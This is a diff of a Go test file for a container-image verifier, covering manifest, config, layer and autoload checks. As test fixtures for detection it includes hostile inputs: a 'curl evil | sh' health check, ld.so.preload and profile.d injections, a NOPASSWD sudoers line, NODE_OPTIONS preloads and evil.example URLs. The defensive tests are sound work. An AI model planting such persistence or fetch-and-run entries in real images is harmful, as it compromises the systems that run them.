@@ -3,9 +3,9 @@ package verify_test
 import (
 	"bytes"
 	"encoding/json"
-	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	v1 "github.com/google/go-containerregistry/pkg/v1"
 	"github.com/google/go-containerregistry/pkg/v1/types"
@@ -13,7 +13,6 @@ import (
 	"github.com/slimctl/slimctl/image"
 	"github.com/slimctl/slimctl/image/tree"
 	"github.com/slimctl/slimctl/inspect"
-	"github.com/slimctl/slimctl/inspect/expect"
 	"github.com/slimctl/slimctl/inspect/mcp"
 	"github.com/slimctl/slimctl/inspect/nginx"
 	"github.com/slimctl/slimctl/inspect/privilege"
@@ -58,57 +57,77 @@ func (f *fixture) privileged(p string, mode int64, kind string) {
 
 var proxied = nginx.Target{Kind: nginx.Proxy, Value: "http://127.0.0.1:8091/", Addresses: []string{"127.0.0.1:8091"}}
 
+// manifest changes the manifest, and nothing else.
 func manifest(change func(*v1.Manifest)) func(*fixture) {
 	return func(f *fixture) {
-		f.prepare = func(img *inspect.Image, _ *expect.Expect) {
-			m, err := v1.ParseManifest(bytes.NewReader(img.RawManifest))
-			if err != nil {
-				panic(err)
-			}
-			change(m)
-			if img.RawManifest, err = json.Marshal(m); err != nil {
-				panic(err)
-			}
-		}
+		f.prepare = func(img, _ *inspect.Image) { changeManifest(img, change) }
 	}
 }
 
-// wantBase has a build write the base's layer as it is, with these annotations.
-func (f *fixture) wantBase(annotations map[string]string) {
-	prepare := f.prepare
-	f.prepare = func(img *inspect.Image, want *expect.Expect) {
-		if prepare != nil {
-			prepare(img, want)
-		}
-		l := img.Files.Layers[0]
-		want.Base.Manifest = []expect.Descriptor{{MediaType: l.MediaType, Digest: l.Digest.String(), Size: l.Size, Annotations: annotations}}
+func changeManifest(img *inspect.Image, change func(*v1.Manifest)) {
+	m, err := v1.ParseManifest(bytes.NewReader(img.RawManifest))
+	if err != nil {
+		panic(err)
+	}
+	change(m)
+	if img.RawManifest, err = json.Marshal(m); err != nil {
+		panic(err)
+	}
+}
+
+// tree has another layers accepted.
+func asTree(breakIt func(*fixture)) func(*fixture) {
+	return func(f *fixture) {
+		f.sameTree = true
+		breakIt(f)
 	}
 }
 
 func annotated(layer int, key, value string) func(*fixture) {
-	return func(f *fixture) {
-		f.prepare = func(img *inspect.Image, _ *expect.Expect) {
-			img.Files.Layers[layer].Annotations = map[string]string{key: value}
+	return manifest(func(m *v1.Manifest) { m.Layers[layer].Annotations = map[string]string{key: value} })
+}
+
+// What means the same with other layers is no difference: the annotations that the base has on its own layers among it.
+func TestSameTreePasses(t *testing.T) {
+	for name, change := range map[string]func(*fixture){
+		"the same":           func(*fixture) {},
+		"in two layers":      func(f *fixture) { f.above, f.laid = [][]image.File{f.laid[5:]}, f.laid[:5] },
+		"a file twice":       func(f *fixture) { f.addAbove(f.laid[0]) },
+		"laid and removed":   func(f *fixture) { f.addAbove(text("/srv", "x")); f.addAbove(image.Whiteout("/srv")) },
+		"with other times":   func(f *fixture) { f.laid[5].ModTime = time.Unix(1e9, 0) },
+		"a described one":    func(f *fixture) { f.annotations["org.opencontainers.image.title"] = "slim" },
+		"BuildKit's seconds": annotated(1, "buildkit/rewritten-timestamp", "1771000000"),
+		"Docker's types": manifest(func(m *v1.Manifest) {
+			m.MediaType, m.Config.MediaType = types.DockerManifestSchema2, types.DockerConfigJSON
+			for i := range m.Layers {
+				m.Layers[i].MediaType = types.DockerLayer
+			}
+		}),
+		"the base's annotation": func(f *fixture) {
+			f.prepare = func(img, made *inspect.Image) {
+				for _, i := range []*inspect.Image{img, made} {
+					changeManifest(i, func(m *v1.Manifest) {
+						m.Layers[0].Annotations = map[string]string{"containerd.io/snapshot/stargz/toc.digest": "sha256:1"}
+					})
+				}
+				img.RawManifest = append(img.RawManifest, ' ')
+			}
+		},
+	} {
+		f := good()
+		f.sameTree = true
+		change(f)
+		r := check(t, f.input(t))
+		if len(r.Findings) > 0 || !r.Passed || r.Proven == "" {
+			t.Errorf("%s: %s", name, describe(r))
 		}
-	}
-}
-
-// A base's node may be a script that starts another.
-func TestNodeByScript(t *testing.T) {
-	f := good()
-	f.addAbove(image.Bytes("/usr/local/bin/node", 0o755, []byte("#!/bin/sh\nexec /usr/bin/node \"$@\"\n")))
-	if r := check(t, f.input(t)); strings.Contains(describe(r), "payload-node") {
-		t.Error(describe(r))
-	}
-}
-
-// The annotations that the base has on its own layers are its own.
-func TestBasesLayerAnnotationsPass(t *testing.T) {
-	f := good()
-	annotated(0, "containerd.io/snapshot/stargz/toc.digest", "sha256:1")(f)
-	f.wantBase(map[string]string{"containerd.io/snapshot/stargz/toc.digest": "sha256:1"})
-	if r := check(t, f.input(t)); len(r.Findings) > 0 {
-		t.Error(describe(r))
+		if name == "the same" && r.Proven != verify.ByDigest || name == "a file twice" && r.Proven != verify.ByTree {
+			t.Errorf("%s: proven by %q", name, r.Proven)
+		}
+		f.sameTree = false
+		if r = check(t, f.input(t)); name != "the same" && (r.Passed || r.Proven != "" || len(r.Findings) == 0) {
+			t.Errorf("%s: passes without --same tree", name)
+		}
 	}
 }
 
@@ -120,41 +139,57 @@ const builtConfig = `{"architecture":"amd64","config":{"User":"gem","WorkingDir"
 	`"rootfs":{"type":"layers","diff_ids":["sha256:1"]},` +
 	`"history":[{"created":"2026-05-12T08:00:00Z","created_by":"base"},{"created":"2026-05-12T08:00:00Z","created_by":"ours"}]}`
 
-// built holds builtConfig with one part of it replaced against builtConfig.
+// built compares builtConfig with one part of it replaced with builtConfig.
 func built(old, replacement string) func(*fixture) {
 	if !strings.Contains(builtConfig, old) {
 		panic(old)
 	}
 	return func(f *fixture) {
-		f.want.Config.WorkingDir, f.want.Base.Config = "", []byte(builtConfig)
-		f.prepare = func(img *inspect.Image, _ *expect.Expect) {
+		f.prepare = func(img, made *inspect.Image) {
+			made.RawConfig = []byte(builtConfig)
 			img.RawConfig = []byte(strings.Replace(builtConfig, old, replacement, 1))
+			for _, i := range []*inspect.Image{img, made} {
+				changeManifest(i, func(m *v1.Manifest) {
+					m.Config.Digest, m.Config.Size, _ = v1.SHA256(bytes.NewReader(i.RawConfig))
+				})
+			}
 		}
 	}
 }
 
-// What means the same as what a build writes is nothing to tell, nor is what the profile sets or only describes.
+// What means the same as what a build writes is nothing to tell where other layers are accepted; by its digest it is
+// another image.
 func TestBuiltConfigPasses(t *testing.T) {
 	for _, part := range [][2]string{
-		{`"os"`, `"os"`},
 		{`"created":"2026-05-12T08:00:00Z"`, `"created":"1970-01-01T00:00:00Z"`},
 		{`"sha256:1"`, `"sha256:1","sha256:2"`},
 		{`"User"`, `"Cmd":null,"OnBuild":[],"NetworkDisabled":false,"Hostname":"","ArgsEscaped":true,"User"`},
 		{`"os"`, `"os.features":[],"os"`},
-		{`"PATH=/usr/bin:/bin","BASE=1"`, `"BASE=1","WAIT_PORTS=","PATH=/usr/bin:/bin"`},
+		{`"PATH=/usr/bin:/bin","BASE=1"`, `"BASE=1","BLANK=","PATH=/usr/bin:/bin"`},
 		{`image.version":"1"`, `image.version":"2"`},
-		{`"maker"`, `"title":"slim","maker"`},
+		{`"maker"`, `"org.opencontainers.image.title":"slim","maker"`},
 		{`"/data":{}`, `"\u002fdata" : {} `},
 		{`"created_by":"base"`, `"created_by":"base","comment":"","empty_layer":false`},
+		{`"created_by":"ours"`, `"created_by":"COPY"`},
 	} {
 		f := good()
 		built(part[0], part[1])(f)
+		if r := check(t, f.input(t)); r.Passed || len(r.Findings) == 0 {
+			t.Errorf("%s passes by its digest", part[1])
+		}
+		f.sameTree = true
 		for _, found := range check(t, f.input(t)).Findings {
 			t.Errorf("%s: %s: %s", part[1], found.Rule, found.Message)
 		}
 	}
 	f := good()
-	f.want.Base.Config = []byte(`{"config":`)
+	built(`"os"`, `"os"`)(f)
+	prepare := f.prepare
+	f.prepare = func(img, made *inspect.Image) {
+		prepare(img, made)
+		made.RawConfig = []byte(`{"config":`)
+		changeManifest(made, func(m *v1.Manifest) { m.Config.Size++; m.Config.Digest.Hex = strings.Repeat("0", 64) })
+	}
 	if _, err := verify.Check(t.Context(), f.input(t)); err == nil {
 		t.Error("a broken expectation passes")
 	}
@@ -291,24 +326,10 @@ var broken = map[string]map[string]func(*fixture){
 		"another file": func(f *fixture) { f.surface.Start.Supervisord = "/etc/supervisor/supervisord.conf" },
 		"none":         func(f *fixture) { f.surface.Start.Supervisord = "" },
 	},
-	"start-entrypoint": {
-		"the base's": func(f *fixture) { f.surface.Config.Entrypoint = []string{"/opt/gem/run.sh"} },
-		"a command":  func(f *fixture) { f.surface.Config.Cmd = []string{"--debug"} },
-		"none":       func(f *fixture) { f.surface.Config.Entrypoint = nil },
-		"no program": func(f *fixture) {
-			f.surface.Config.Entrypoint = []string{"/usr/bin/Xvnc"}
-			f.want.Config.Entrypoint = nil
-		},
-	},
 	"start-script": {
 		"one": func(f *fixture) {
 			f.surface.Start.Scripts = []start.Script{{Path: "/opt/gem/run.sh", By: "entrypoint"}}
 		},
-	},
-	"start-script-left": {
-		"of the base":    func(f *fixture) { f.base = append(f.base, text("/opt/gem/entrypoint.sh", "#!/bin/sh")) },
-		"of a new base":  func(f *fixture) { f.base = append(f.base, text("/opt/gem/sub/new.sh", "#!/bin/sh")) },
-		"of application": func(f *fixture) { f.base = append(f.base, image.Symlink("/opt/application/run.sh", "/opt/gem/run.sh")) },
 	},
 	"start-hook": {
 		"one": func(f *fixture) { f.surface.Start.Hooks = []start.Hook{{Variable: "RUN_HOOK_INIT", How: "bash -c"}} },
@@ -348,20 +369,6 @@ var broken = map[string]map[string]func(*fixture){
 		"NODE_OPTIONS": func(f *fixture) { f.surface.Config.Env["NODE_OPTIONS"] = "--require=/x.js" },
 		"a function":   func(f *fixture) { f.surface.Config.Env["BASH_FUNC_ls%%"] = "() { evil; }" },
 		"a proxy":      func(f *fixture) { f.surface.Config.Env["https_proxy"] = "http://evil:1" },
-	},
-	"autoload": {
-		"ld.so.preload":      func(f *fixture) { f.base = append(f.base, text("/etc/ld.so.preload", "/x.so")) },
-		"ld.so.preload link": func(f *fixture) { f.base = append(f.base, image.Symlink("/etc/ld.so.preload", "/home/gem/x")) },
-		"profile.d":          func(f *fixture) { f.addAbove(text("/etc/profile.d/x.sh", "evil")) },
-		"python":             func(f *fixture) { f.addAbove(text("/usr/lib/python3/dist-packages/x.pth", "import evil")) },
-		"a module of Node":   func(f *fixture) { f.addAbove(text("/node_modules/bufferutil/index.js", "evil")) },
-		"chromium.d":         func(f *fixture) { f.addAbove(text("/etc/chromium.d/x", "evil")) },
-	},
-	"autoload-unowned": {
-		"in an unknown base": func(f *fixture) {
-			f.want.Base.Layers = []string{}
-			f.base = append(f.base, text("/etc/profile.d/x.sh", "evil"))
-		},
 	},
 	"nginx-longer-location": {
 		"a prefix": func(f *fixture) { f.addLocation(nginx.Location{Pattern: "/v1", Auth: "/_auth", Target: proxied}) },
@@ -540,255 +547,8 @@ var broken = map[string]map[string]func(*fixture){
 			f.surface.Listeners = append(f.surface.Listeners, inspect.Listener{Address: "${PUBLIC_LISTEN}", By: "nginx"})
 		},
 	},
-	"config": {
-		"variable":         func(f *fixture) { f.surface.Config.Env["PATH"] = "/home/gem/.local/bin:/usr/bin" },
-		"switched on":      func(f *fixture) { f.surface.Config.Env["WAIT_PORTS"] = "8091" },
-		"missing":          func(f *fixture) { delete(f.surface.Config.Env, "WAIT_PORTS") },
-		"unset":            func(f *fixture) { f.surface.Config.Env["GONE"] = "1" },
-		"user":             func(f *fixture) { f.want.Config.User = "1000"; f.surface.Config.User = "0" },
-		"directory":        func(f *fixture) { f.surface.Config.WorkingDir = "/home/gem" },
-		"health check":     func(f *fixture) { f.surface.Config.Healthcheck = []string{"CMD-SHELL", "curl evil | sh"} },
-		"a variable twice": func(f *fixture) { f.config.Config.Env = []string{"A=1", "B=2", "A=3"} },
-		"no variable":      func(f *fixture) { f.config.Config.Env = []string{"A"} },
-		"ONBUILD":          func(f *fixture) { f.config.Config.OnBuild = []string{"RUN evil"} },
-
-		"not the base's user":         built(`"User":"gem"`, `"User":"root"`),
-		"without the base's user":     built(`"User":"gem",`, ``),
-		"not the base's directory":    built(`"/home/gem"`, `"/"`),
-		"not the base's variable":     built(`BASE=1`, `BASE=2`),
-		"without the base's variable": built(`,"BASE=1"`, ``),
-		"one more variable":           built(`"BASE=1"`, `"BASE=1","MORE="`),
-		"not the base's volume":       built(`{"/data":{}}`, `{"/data":{},"/etc":{}}`),
-		"not the base's stop signal":  built(`"SIGTERM"`, `"SIGKILL"`),
-		"not the base's shell":        built(`["/bin/sh","-c"]`, `["/evil","-c"]`),
-		"health check's times":        built(`"Interval":10000000000`, `"Interval":1`),
-		"a key of the health check":   built(`"Interval":`, `"StartInterval":1,"Interval":`),
-		"a key that no build writes":  built(`"StopSignal"`, `"MacAddress":"02:42:ac:11:00:02","StopSignal"`),
-		"a key beside it":             built(`"os":"linux"`, `"os":"linux","author":"evil"`),
-		"another kind of rootfs":      built(`"type":"layers"`, `"type":"evil"`),
-		"another variant":             built(`"os":"linux"`, `"os":"linux","variant":"v3"`),
-		"another system":              built(`"os":"linux"`, `"os":"linux","os.version":"10.0"`),
-		"a key twice":                 built(`"User":"gem"`, `"User":"root","User":"gem"`),
-		"a key in another case":       built(`"User":"gem"`, `"User":"gem","user":""`),
-		"a key of another alphabet":   built(`"User":"gem"`, `"User":"gem","U\u017fer":""`),
-		"a key of all in two cases":   built(`"os":"linux"`, `"os":"linux","Config":{"User":"root"}`),
-		"two configs":                 built(`"rootfs":`, `"config":{},"rootfs":`),
-		"more behind it":              built(`"created_by":"ours"}]}`, `"created_by":"ours"}]}{"config":{}}`),
-		"no object":                   built(`"config":{`, `"config":[],"Config":{`),
-		"too deep":                    built(`"os":"linux"`, `"os":"linux","x":`+strings.Repeat(`{"x":`, 100_000)+"1"+strings.Repeat("}", 100_000)),
-	},
-	"config-history": {
-		"another step":      built(`"created_by":"base"`, `"created_by":"evil"`),
-		"an empty layer":    built(`"created_by":"base"`, `"created_by":"base","empty_layer":true`),
-		"one more":          built(`"created_by":"ours"}`, `"created_by":"ours"},{"created_by":"evil"}`),
-		"none":              built(`,{"created":"2026-05-12T08:00:00Z","created_by":"ours"}`, ``),
-		"of another author": built(`"created_by":"ours"`, `"created_by":"ours","author":"evil"`),
-	},
-	"config-port": {
-		"another": func(f *fixture) { f.surface.Config.ExposedPorts = []string{"8080/tcp", "9222/tcp"} },
-		"none":    func(f *fixture) { f.surface.Config.ExposedPorts = nil },
-	},
 	"config-volume": {
 		"the policy": func(f *fixture) { f.surface.Config.Volumes = []string{"/etc/agent-browser"} },
-	},
-	"config-label": {
-		"another":         func(f *fixture) { f.surface.Config.Labels["title"] = "full" },
-		"not the base's":  built(`"maker":"base"`, `"maker":"evil"`),
-		"neither's":       built(`"maker":"base"`, `"maker":"base","traefik.enable":"true"`),
-		"an empty one":    built(`"maker":"base"`, `"maker":"base","empty":""`),
-		"the base's away": built(`"maker":"base",`, ``),
-	},
-	"label-unknown": {
-		"one": func(f *fixture) { f.surface.Config.Labels["traefik.http.services.x.loadbalancer.server.port"] = "9222" },
-	},
-	"env-unknown": {
-		"one": func(f *fixture) { f.surface.Config.Env["PUPPETEER_SKIP"] = "true" },
-	},
-	"file-missing": {
-		"hidden":                    func(f *fixture) { f.addAbove(image.Whiteout(shell)) },
-		"hidden with its directory": func(f *fixture) { f.addAbove(image.Whiteout("/opt/agent-browser")) },
-		"hidden by an opaque":       func(f *fixture) { f.addAbove(text("/etc/agent-browser/.wh..wh..opq", "")) },
-		"not laid":                  func(f *fixture) { f.laid = f.laid[1:] },
-		"its directory a link":      func(f *fixture) { f.addAbove(image.Symlink("/etc/agent-browser", "/tmp")) },
-		"one module":                func(f *fixture) { f.addAbove(image.Whiteout("/opt/agent-browser/node_modules/ws/index.js")) },
-	},
-	"file-changed": {
-		"content":   func(f *fixture) { f.addAbove(image.Bytes(shell, 0o755, program(0xb7))) },
-		"a symlink": func(f *fixture) { f.addAbove(image.Symlink(shell, "/usr/local/bin/browser")) },
-		"a hard link": func(f *fixture) {
-			f.addAbove(image.File{Entry: image.Entry{Path: conf, Type: image.TypeLink, Link: nginxConf}})
-		},
-		"a directory": func(f *fixture) { f.addAbove(image.Dir(conf, 0o755)) },
-		"link's end":  func(f *fixture) { f.addAbove(image.Symlink("/usr/local/bin/agent-browser", "/tmp/x")) },
-	},
-	"file-rights": {
-		"mode":  func(f *fixture) { f.addAbove(withMode(text("/etc/agent-browser/policy.json", "{}"), 0o666)) },
-		"owner": func(f *fixture) { f.addAbove(owned(text("/etc/agent-browser/policy.json", "{}"), 1000, 0)) },
-		"xattr": func(f *fixture) {
-			x := image.Bytes(shell, 0o755, program(0x3e))
-			x.Xattrs = map[string]string{"security.capability": "\x01"}
-			f.addAbove(x)
-		},
-		"a directory": func(f *fixture) { f.addAbove(owned(image.Dir("/home/gem", 0o755), 1000, 1000)) },
-	},
-	"file-directory": {
-		"gem's":       func(f *fixture) { f.addAbove(owned(image.Dir("/opt/gem", 0o755), 1000, 1000)) },
-		"everybody's": func(f *fixture) { f.addAbove(image.Dir("/etc/agent-browser", 0o777)) },
-		"the group's": func(f *fixture) { f.addAbove(owned(image.Dir("/usr/local/bin", 0o775), 0, 1000)) },
-	},
-	"file-architecture": {
-		"arm64 in amd64": func(f *fixture) {
-			f.addAbove(image.Bytes(shell, 0o755, program(0xb7)))
-			f.want.Files = []expect.File{{Path: shell, Type: "file", Mode: 0o755, Size: 64, Overlay: "browser-shell"}}
-		},
-		"cut off": func(f *fixture) { f.addAbove(image.Bytes(shell, 0o755, program(0x3e)[:10])) },
-		"32 bit":  func(f *fixture) { b := program(0x3e); b[4] = 1; f.addAbove(image.Bytes(shell, 0o755, b)) },
-		"no such": func(f *fixture) {
-			f.prepare = func(img *inspect.Image, _ *expect.Expect) {
-				img.Platform.Architecture = "amd64"
-				img.Platform.Architecture = "riscv64"
-			}
-		},
-	},
-	"file-extra": {
-		"a module": func(f *fixture) {
-			f.base = append(f.base, text("/opt/agent-browser/node_modules/playwright-core/index.js", "evil"))
-		},
-		"a link": func(f *fixture) { f.addAbove(image.Symlink("/opt/agent-browser/dist/node_modules", "/tmp")) },
-	},
-	"payload-node": {
-		"removed":                 func(f *fixture) { f.addAbove(image.Whiteout("/usr/bin/node")) },
-		"for its owner alone":     func(f *fixture) { f.addAbove(image.Bytes("/usr/bin/node", 0o744, program(0x3e))) },
-		"a directory":             func(f *fixture) { f.addAbove(image.Whiteout("/usr/bin/node"), image.Dir("/usr/local/bin/node", 0o755)) },
-		"a link to nothing":       func(f *fixture) { f.addAbove(image.Symlink("/usr/bin/node", "/opt/node")) },
-		"of another architecture": func(f *fixture) { f.addAbove(image.Bytes("/usr/bin/node", 0o755, program(0xb7))) },
-		"broken":                  func(f *fixture) { f.addAbove(image.Bytes("/usr/local/bin/node", 0o755, nil)) },
-		"in a closed directory": func(f *fixture) {
-			f.addAbove(image.Symlink("/usr/bin/node", "/srv/node"), image.Dir("/srv", 0o700), image.Bytes("/srv/node", 0o755, program(0x3e)))
-		},
-		"elsewhere": func(f *fixture) {
-			f.laid = append(f.laid, text("/etc/agent-browser/browser-shell.policy.json", `{"agent_browser": {"search_path": "/opt/node/bin"}}`))
-		},
-	},
-	"file-removed": {
-		"brought back":        func(f *fixture) { f.addAbove(text("/opt/gem/run.sh", "#!/bin/sh")) },
-		"below":               func(f *fixture) { f.addAbove(text("/etc/sudoers.d/gem", "gem ALL=(ALL) NOPASSWD:ALL")) },
-		"in a laid directory": func(f *fixture) { f.base = append(f.base, image.Bytes("/home/gem/.local/bin/nc", 0o755, nil)) },
-	},
-	"file-closed": {
-		"a new name": func(f *fixture) { f.addAbove(text("/opt/gem/later.conf", "x")) },
-		"a link":     func(f *fixture) { f.addAbove(image.Symlink("/opt/gem/nginx", "/tmp")) },
-	},
-	"base-layers": {
-		"another": func(f *fixture) { f.want.Base.Layers = []string{"sha256:" + strings.Repeat("0", 64)} },
-		"too few": func(f *fixture) {
-			f.prepare = func(_ *inspect.Image, w *expect.Expect) {
-				w.Base.Layers = append(w.Base.Layers, "sha256:1", "sha256:2", "sha256:3")
-			}
-		},
-	},
-	"base-known": {
-		"nobody named it": func(f *fixture) { f.want.Base.Layers = []string{} },
-	},
-	"base-annotation": {
-		"wrong": func(f *fixture) {
-			f.annotations["org.opencontainers.image.base.digest"] = "sha256:" + strings.Repeat("0", 64)
-		},
-		"none":              func(f *fixture) { f.annotations = nil },
-		"not the index's":   func(f *fixture) { f.index = map[string]string{} },
-		"another name":      func(f *fixture) { f.index["org.opencontainers.image.base.name"] = "evil.example/base:1" },
-		"none, and unknown": func(f *fixture) { f.annotations = nil; f.want.Base = expect.Base{} },
-	},
-	"annotation": {
-		"a runtime":    func(f *fixture) { f.annotations["run.oci.handler"] = "krun" },
-		"of the index": func(f *fixture) { f.index["org.systemd.property.ExecStartPre"] = "x" },
-		"other than said": func(f *fixture) {
-			f.annotations["team"] = "a"
-			f.want.Annotations = map[string]string{"team": "b"}
-		},
-		"with the base not known": func(f *fixture) {
-			f.want.Base = expect.Base{}
-			f.annotations["io.podman.annotations.privileged"] = "TRUE"
-		},
-	},
-	"layer-foreign": {
-		"a program of the base": func(f *fixture) { f.addAbove(image.Bytes("/usr/sbin/nginx", 0o755, program(0x3e))) },
-		"a library":             func(f *fixture) { f.addAbove(text("/usr/lib/x86_64-linux-gnu/libc.so.6", "evil")) },
-		"a directory's mode":    func(f *fixture) { f.addAbove(image.Dir("/usr/bin", 0o777)) },
-		"a new directory":       func(f *fixture) { f.addAbove(image.Dir("/srv/x", 0o755)) },
-		"a removal":             func(f *fixture) { f.addAbove(image.Whiteout("/usr/bin/Xvnc")) },
-		"an opaque directory":   func(f *fixture) { f.addAbove(text("/usr/bin/.wh..wh..opq", "")) },
-		"a laid file, first wrong": func(f *fixture) {
-			f.addAbove(image.Bytes(shell, 0o755, program(0xb7)))
-			f.addAbove(image.Bytes(shell, 0o755, program(0x3e)))
-		},
-		"with the base not known": func(f *fixture) {
-			f.want.Base.Layers = []string{}
-			f.addAbove(image.Bytes("/usr/sbin/nginx", 0o755, program(0x3e)))
-		},
-	},
-	"layer-archive": {
-		"a file twice": func(f *fixture) {
-			f.prepare = func(img *inspect.Image, _ *expect.Expect) {
-				img.Files.Layers[1].Odd = []tree.Odd{{Path: "/usr/sbin/nginx", Text: "it is in the archive twice"}}
-			}
-		},
-		"with the base not known": func(f *fixture) {
-			f.want.Base.Layers = []string{}
-			f.addAbove(text("/usr/bin/.wh..wh.x", ""))
-		},
-	},
-	"manifest": {
-		"not read":           func(f *fixture) { f.prepare = func(img *inspect.Image, _ *expect.Expect) { img.RawManifest = nil } },
-		"half Docker's":      manifest(func(m *v1.Manifest) { m.MediaType = types.DockerManifestSchema2 }),
-		"an empty config":    manifest(func(m *v1.Manifest) { m.Config.MediaType = "application/vnd.oci.empty.v1+json" }),
-		"a config in itself": manifest(func(m *v1.Manifest) { m.Config.Data = []byte("{}") }),
-		"a config from afar": manifest(func(m *v1.Manifest) { m.Config.URLs = []string{"https://evil.example"} }),
-		"an artifact":        manifest(func(m *v1.Manifest) { m.ArtifactType = "application/x" }),
-		"a subject":          manifest(func(m *v1.Manifest) { m.Subject = &v1.Descriptor{} }),
-		"an unknown layer":   manifest(func(m *v1.Manifest) { m.Layers[1].MediaType = "application/x-evil" }),
-		"a plain layer":      manifest(func(m *v1.Manifest) { m.Layers[1].MediaType = types.OCIUncompressedLayer }),
-		"a foreign layer":    manifest(func(m *v1.Manifest) { m.Layers[1].MediaType = types.OCIRestrictedLayer }),
-		"a layer in itself":  manifest(func(m *v1.Manifest) { m.Layers[1].Data = []byte("x") }),
-		"not gzip": func(f *fixture) {
-			f.prepare = func(img *inspect.Image, _ *expect.Expect) { img.Files.Layers[1].Compression = "none" }
-		},
-		"with the base not known": func(f *fixture) {
-			f.want.Base.Layers = []string{}
-			manifest(func(m *v1.Manifest) { m.Layers[1].MediaType = types.OCILayerZStd })(f)
-		},
-	},
-	"layer-annotation": {
-		"an index of ours":                     annotated(1, "io.github.containers.zstd-chunked.manifest-position", "1:2:3:1"),
-		"BuildKit's, with more than seconds":   annotated(1, "buildkit/rewritten-timestamp", "1 run.oci.handler=x"),
-		"BuildKit's, with a sign":              annotated(1, "buildkit/rewritten-timestamp", "+1"),
-		"BuildKit's, on a layer of the base's": annotated(0, "buildkit/rewritten-timestamp", "1"),
-		"of the base's":                        annotated(0, "containerd.io/snapshot/stargz/toc.digest", "sha256:1"),
-		"another one of the base's": func(f *fixture) {
-			annotated(0, "containerd.io/snapshot/stargz/toc.digest", "sha256:1")(f)
-			f.wantBase(map[string]string{"containerd.io/snapshot/stargz/toc.digest": "sha256:0"})
-		},
-		"one of the base's away": func(f *fixture) {
-			f.wantBase(map[string]string{"containerd.io/snapshot/stargz/toc.digest": "sha256:0"})
-		},
-		"of a base that is not known": func(f *fixture) {
-			f.want.Base.Layers = []string{}
-			annotated(0, "io.github.containers.zstd-chunked.manifest-position", "1:2:3:1")(f)
-		},
-		"with the base not known": func(f *fixture) {
-			f.want.Base.Layers = []string{}
-			annotated(1, "containerd.io/snapshot/nydus-blob", "true")(f)
-		},
-		"an URL": func(f *fixture) {
-			f.prepare = func(img *inspect.Image, _ *expect.Expect) {
-				img.Files.Layers[1].URLs = []string{"https://evil.example/x"}
-			}
-		},
-	},
-	"layer-unread": {
-		"one": func(f *fixture) {
-			f.prepare = func(img *inspect.Image, _ *expect.Expect) { img.Files.Layers[0].Unread = true }
-		},
 	},
 	"privilege-file": {
 		"setuid":     func(f *fixture) { f.privileged("/usr/bin/x", 0o4755, privilege.Setuid) },
@@ -865,9 +625,165 @@ var broken = map[string]map[string]func(*fixture){
 			f.addAbove(image.Whiteout("/root/.ssh/id_rsa"))
 		},
 		"in an unknown base": func(f *fixture) {
-			f.want.Base.Layers = []string{}
+			f.want.Base = []string{}
 			f.base = append(f.base, text("/root/.netrc", "machine x login y password z"))
 		},
+	},
+	"start-entrypoint": {
+		"the base's": func(f *fixture) { f.surface.Config.Entrypoint = []string{"/opt/gem/run.sh"} },
+		"none":       func(f *fixture) { f.surface.Config.Entrypoint = nil },
+		"no program": func(f *fixture) { f.surface.Config.Entrypoint = []string{conf} },
+		"not laid":   func(f *fixture) { f.surface.Config.Entrypoint = []string{"/usr/bin/Xvnc"} },
+	},
+	"autoload": {
+		"ld.so.preload":      func(f *fixture) { f.base = append(f.base, text("/etc/ld.so.preload", "/x.so")) },
+		"ld.so.preload link": func(f *fixture) { f.base = append(f.base, image.Symlink("/etc/ld.so.preload", "/home/gem/x")) },
+	},
+	"file-directory": {
+		"gem's":       func(f *fixture) { f.addAbove(owned(image.Dir("/opt/gem", 0o755), 1000, 1000)) },
+		"everybody's": func(f *fixture) { f.addAbove(image.Dir("/etc/agent-browser", 0o777)) },
+		"the group's": func(f *fixture) { f.addAbove(owned(image.Dir("/usr/local/bin", 0o775), 0, 1000)) },
+	},
+	"not-read": {
+		"MCP":      func(f *fixture) { f.surface.MCP = nil },
+		"start":    func(f *fixture) { f.surface.Start = nil },
+		"accounts": func(f *fixture) { f.surface.Privilege = nil },
+		"programs": func(f *fixture) { f.surface.Supervisord = nil },
+		"files":    func(f *fixture) { f.want.Laid = nil },
+	},
+	"index": {
+		"a key": func(*fixture) {}, // TestIndexes has the others
+	},
+	"manifest": {
+		"written otherwise": func(f *fixture) {
+			f.prepare = func(img, _ *inspect.Image) { img.RawManifest = append(img.RawManifest, ' ') }
+		},
+		"cut off":             func(f *fixture) { f.prepare = func(img, _ *inspect.Image) { img.RawManifest = img.RawManifest[1:] } },
+		"half Docker's":       asTree(manifest(func(m *v1.Manifest) { m.MediaType = types.DockerManifestSchema2 })),
+		"Docker's":            manifest(func(m *v1.Manifest) { m.MediaType = types.DockerManifestSchema2 }),
+		"an empty config":     manifest(func(m *v1.Manifest) { m.Config.MediaType = "application/vnd.oci.empty.v1+json" }),
+		"a config in itself":  manifest(func(m *v1.Manifest) { m.Config.Data = []byte("{}") }),
+		"a config from afar":  manifest(func(m *v1.Manifest) { m.Config.URLs = []string{"https://evil.example"} }),
+		"an artifact":         manifest(func(m *v1.Manifest) { m.ArtifactType = "application/x" }),
+		"a subject":           manifest(func(m *v1.Manifest) { m.Subject = &v1.Descriptor{} }),
+		"an unknown layer":    manifest(func(m *v1.Manifest) { m.Layers[1].MediaType = "application/x-evil" }),
+		"a plain layer":       asTree(manifest(func(m *v1.Manifest) { m.Layers[1].MediaType = types.OCIUncompressedLayer })),
+		"a foreign layer":     asTree(manifest(func(m *v1.Manifest) { m.Layers[1].MediaType = types.OCIRestrictedLayer })),
+		"a layer in itself":   asTree(manifest(func(m *v1.Manifest) { m.Layers[1].Data = []byte("x") })),
+		"a subject of a tree": asTree(manifest(func(m *v1.Manifest) { m.Subject = &v1.Descriptor{} })),
+		"a layer from afar":   manifest(func(m *v1.Manifest) { m.Layers[1].URLs = []string{"https://evil.example/x"} }),
+		"an index of ours":    annotated(1, "io.github.containers.zstd-chunked.manifest-position", "1:2:3:1"),
+		"an index of a tree":  asTree(annotated(1, "io.github.containers.zstd-chunked.manifest-position", "1:2:3:1")),
+		"more than seconds":   asTree(annotated(1, "buildkit/rewritten-timestamp", "1 run.oci.handler=x")),
+		"a sign":              asTree(annotated(1, "buildkit/rewritten-timestamp", "+1")),
+		"of the base's":       asTree(annotated(0, "containerd.io/snapshot/stargz/toc.digest", "sha256:1")),
+		"BuildKit's":          annotated(1, "buildkit/rewritten-timestamp", "1"),
+	},
+	"annotation": {
+		"a runtime":           func(f *fixture) { f.annotations["run.oci.handler"] = "krun" },
